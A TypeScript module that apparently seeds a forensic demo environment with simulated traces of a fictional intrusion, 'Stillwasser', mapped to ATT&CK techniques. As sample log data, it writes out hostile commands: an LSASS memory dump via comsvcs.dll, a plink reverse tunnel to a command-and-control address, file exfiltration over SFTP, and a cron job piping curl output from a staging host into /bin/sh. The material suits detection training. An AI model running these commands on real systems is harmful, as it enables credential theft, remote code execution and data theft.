import { lastDay } from './company.ts'

/** "Stillwasser", the incident of docs/demo-story.md, as traces that collections find while they last. */
export const external = {
  /** Command and control, docks-sync.example. */
  c2: '198.51.100.23',
  /** Where the files went. */
  drop: '203.0.113.77',
  /** Second stage for Linux, tide-cdn.example. */
  stage: '203.0.113.44',
}
export const incidentHosts = ['bhv-ws-014', 'ham-jmp-02', 'ham-dc-01', 'ham-fs-01', 'mad-web-02', 'rtm-eng-03'] as const

export type Artifact =
  | 'Windows.System.Pslist'
  | 'Windows.Network.Netstat'
  | 'Windows.Sys.StartupItems'
  | 'Windows.EventLogs.Evtx'
  | 'Linux.Sys.Crontab'
  | 'Linux.Sys.Pslist'
  | 'Generic.Client.Info'

interface Trace {
  artifact: Artifact
  host: (typeof incidentHosts)[number]
  /** Day and minute of the day at which it came; the last day on which it can still be seen. */
  day: number
  minute: number
  until: number
  /** ATT&CK technique, for the story; it does not stand in the row. */
  technique: string
  row: Record<string, unknown>
}

const process = (Pid: number, Ppid: number, Exe: string, CommandLine: string, Username: string, Trusted = 'untrusted') => ({
  Pid,
  Ppid,
  TokenIsElevated: Username.startsWith('NT') || Username.includes('svc-'),
  Name: Exe.split('\\').at(-1) ?? Exe,
  CommandLine,
  Exe,
  Hash: { SHA256: '9c1e5d27b0f34a86e2d87a415c0fb39d6a2e41c87f05d3b9a6c44e18d2f7b053' },
  Authenticode: { Filename: Exe, Trusted },
  Username,
})
const connection = (Pid: number, Name: string, local: string, port: number, remote: string, remotePort: number) => ({
  Pid,
  Name,
  Family: 'IPv4',
  Type: 'TCP',
  Status: 'ESTAB',
  'Laddr.IP': local,
  'Laddr.Port': port,
  'Raddr.IP': remote,
  'Raddr.Port': remotePort,
})
const event = (Channel: string, Provider: string, EventID: number, EventData: Record<string, unknown>, Message: string) => ({
  Channel,
  Provider,
  EventID,
  EventData,
  Message,
})
const sync = 'C:\\Users\\j.petersen\\AppData\\Roaming\\PortSync\\psync.dll'
const rundll = 'C:\\Windows\\System32\\rundll32.exe'
const security = ['Security', 'Microsoft-Windows-Security-Auditing'] as const

/** In the order of the story. */
export const traces: readonly Trace[] = [
  {
    ...{ artifact: 'Windows.System.Pslist', host: 'bhv-ws-014', day: 20, minute: 554, until: 46, technique: 'T1218.011' },
    row: process(7312, 5120, rundll, `rundll32.exe ${sync},Start`, 'NORDWIND\\j.petersen', 'trusted'),
  },
  {
    ...{ artifact: 'Windows.Network.Netstat', host: 'bhv-ws-014', day: 20, minute: 555, until: 46, technique: 'T1071.001' },
    row: connection(7312, 'rundll32.exe', '10.30.20.24', 51422, external.c2, 443),
  },
  {
    ...{ artifact: 'Windows.Sys.StartupItems', host: 'bhv-ws-014', day: 21, minute: 12, until: 46, technique: 'T1547.001' },
    row: {
      Name: 'PortSync Updater',
      OSPath: 'HKEY_USERS\\S-1-5-21-3042\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\PortSync Updater',
      Details: `rundll32.exe ${sync},Start`,
      Enabled: 'enabled',
    },
  },
  {
    ...{ artifact: 'Windows.EventLogs.Evtx', host: 'bhv-ws-014', day: 24, minute: 131, until: 46, technique: 'T1003.001' },
    row: event(
      ...security,
      4688,
      { NewProcessName: rundll, CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\p.bin full' },
      'A new process has been created.',
    ),
  },
  {
    ...{ artifact: 'Windows.EventLogs.Evtx', host: 'ham-dc-01', day: 26, minute: 1395, until: lastDay, technique: 'T1558.003' },
    row: event(
      ...security,
      4769,
      { TargetUserName: 'j.petersen@NORDWIND', ServiceName: 'svc-backup', TicketEncryptionType: '0x17', IpAddress: '::ffff:10.30.20.24' },
      'A Kerberos service ticket was requested.',
    ),
  },
  {
    ...{ artifact: 'Windows.EventLogs.Evtx', host: 'ham-jmp-02', day: 27, minute: 73, until: lastDay, technique: 'T1021.001' },
    row: event(
      ...security,
      4624,
      { TargetUserName: 'svc-backup', LogonType: 10, IpAddress: '10.30.20.24', WorkstationName: 'BHV-WS-014' },
      'An account was successfully logged on.',
    ),
  },
  {
    ...{ artifact: 'Windows.System.Pslist', host: 'ham-jmp-02', day: 33, minute: 94, until: 46, technique: 'T1572' },
    row: process(
      9044,
      812,
      'C:\\ProgramData\\ssh\\plink.exe',
      `plink.exe -N -R 33890:10.40.90.13:3389 sync@${external.c2} -P 443`,
      'NORDWIND\\svc-backup',
    ),
  },
  {
    ...{ artifact: 'Windows.Network.Netstat', host: 'ham-jmp-02', day: 33, minute: 95, until: 46, technique: 'T1572' },
    row: connection(9044, 'plink.exe', '10.20.30.12', 60188, external.c2, 443),
  },
  {
    ...{ artifact: 'Windows.EventLogs.Evtx', host: 'rtm-eng-03', day: 33, minute: 102, until: lastDay, technique: 'T1021.001' },
    row: event(
      ...security,
      4624,
      { TargetUserName: 'svc-backup', LogonType: 10, IpAddress: '10.20.30.12', WorkstationName: 'HAM-JMP-02' },
      'An account was successfully logged on.',
    ),
  },
  {
    ...{ artifact: 'Windows.Sys.StartupItems', host: 'rtm-eng-03', day: 34, minute: 15, until: lastDay, technique: 'T1547.001' },
    row: {
      Name: 'TurbineView Sync',
      OSPath: 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\TurbineView Sync.lnk',
      Details: 'C:\\ProgramData\\TurbineView\\tvsync.exe --quiet',
      Enabled: 'enabled',
    },
  },
  {
    ...{ artifact: 'Windows.System.Pslist', host: 'ham-fs-01', day: 38, minute: 128, until: 41, technique: 'T1567.002' },
    row: process(
      6616,
      2208,
      'C:\\PerfLogs\\svchostx.exe',
      `svchostx.exe copy D:\\Charter\\Contracts sftp:${external.drop} --transfers 8 --bwlimit 20M`,
      'NORDWIND\\svc-backup',
    ),
  },
  {
    ...{ artifact: 'Windows.Network.Netstat', host: 'ham-fs-01', day: 38, minute: 129, until: 41, technique: 'T1048.002' },
    row: connection(6616, 'svchostx.exe', '10.20.10.11', 55310, external.drop, 22),
  },
  {
    ...{ artifact: 'Linux.Sys.Crontab', host: 'mad-web-02', day: 41, minute: 187, until: 47, technique: 'T1053.003' },
    row: {
      Event: null,
      User: 'www-data',
      Minute: '*/15',
      Hour: '*',
      DayOfMonth: '*',
      Month: '*',
      DayOfWeek: '*',
      Command: `/usr/bin/curl -fsS http://${external.stage}/t | /bin/sh`,
      Path: '/var/spool/cron/crontabs/www-data',
    },
  },
  {
    ...{ artifact: 'Linux.Sys.Pslist', host: 'mad-web-02', day: 41, minute: 195, until: 47, technique: 'T1496' },
    row: {
      Pid: 31_877,
      Ppid: 1,
      Name: 'kworkerd',
      CommandLine: '/dev/shm/.k/kworkerd -c /dev/shm/.k/c',
      Exe: '/dev/shm/.k/kworkerd',
      Username: 'www-data',
    },
  },
]

/** What a collection of the artifact finds on the host on that day, with the moment at which it came. */
export function tracesOn(artifact: Artifact, hostname: string, day: number) {
  return traces.filter((trace) => trace.artifact === artifact && trace.host === hostname && trace.day <= day && day <= trace.until)
}
